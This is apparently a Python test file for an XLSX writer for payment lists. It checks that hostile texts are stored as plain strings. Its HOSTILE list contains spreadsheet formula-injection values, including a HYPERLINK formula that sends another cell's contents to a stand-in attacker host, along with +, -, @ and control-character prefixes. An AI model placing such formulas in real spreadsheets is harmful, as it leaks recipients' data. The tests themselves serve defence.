"""The column-built XLSX writer (payment files): hostile texts come back exactly, and every cell is a string."""

from __future__ import annotations

import re
from pathlib import Path

import openpyxl
import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from jiuye.spreadsheet import write_text_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"张三")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "a\rb", "<b>&amp;</b>",
    "_x000D_", "_x005F_x0041_", "line\nbreak", "  lead and trail  ", "\x00\x01\x1f nul", "'=quoted", "1e5", "0012",
    "￾￿", "𠀀 astral",
]  # fmt: skip


def _as_stored(text: str) -> str:
    """The text as an XLSX cell holds it (what Excel and xlsxwriter write, what openpyxl reads back): a
    literal ``_xHHHH_`` prefixed by ``_x005F``, characters XML cannot hold (and CR) as ``_xHHHH_``."""
    text = re.sub(r"(_x[0-9A-Fa-f]{4}_)", r"_x005F\1", text)
    bad = {*map(chr, range(0x20)), "\ufffe", "\uffff"} - {"\t", "\n"}
    return "".join(f"_x{ord(ch):04X}_" if ch in bad else ch for ch in text)


def _read(path: Path) -> list[list[tuple[object, str]]]:
    sheet = openpyxl.load_workbook(path).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_hostile_texts_round_trip_as_strings(tmp_path: Path) -> None:
    frame = pl.DataFrame({"甲": HOSTILE, "乙": [str(i) for i in range(len(HOSTILE))]})
    path = tmp_path / "x.xlsx"
    write_text_xlsx(frame, path, "发放清单", (10, 20))
    rows = _read(path)
    assert rows[0] == [("甲", "s"), ("乙", "s")]
    assert openpyxl.load_workbook(path).active["A1"].font.b  # the header is bold
    got = [r[0][0] for r in rows[1:]]
    assert got == [_as_stored(t) for t in HOSTILE]
    assert all(t == "s" for r in rows for _v, t in r)  # every cell a string: no formula, no number


def test_empty_and_null_cells_are_left_out(tmp_path: Path) -> None:
    frame = pl.DataFrame({"a": ["x", None, ""], "b": [None, "y", "z"]})
    path = tmp_path / "y.xlsx"
    write_text_xlsx(frame, path, "表")
    assert [[v for v, _t in r] for r in _read(path)] == [["a", "b"], ["x", None], [None, "y"], [None, "z"]]


@given(st.lists(st.text(alphabet=st.characters(min_codepoint=0x09, blacklist_categories=("Cs",))), min_size=1,
                max_size=20))  # fmt: skip
def test_any_printable_text_round_trips(texts: list[str]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "z.xlsx"
        write_text_xlsx(pl.DataFrame({"v": texts}, schema={"v": pl.String}), path, "表")
        got = [r[0][0] for r in _read(path)[1:]]
    want = [_as_stored(t) if t != "" else None for t in texts]
    got += [None] * (len(want) - len(got))  # trailing empty rows are not written
    assert got == want
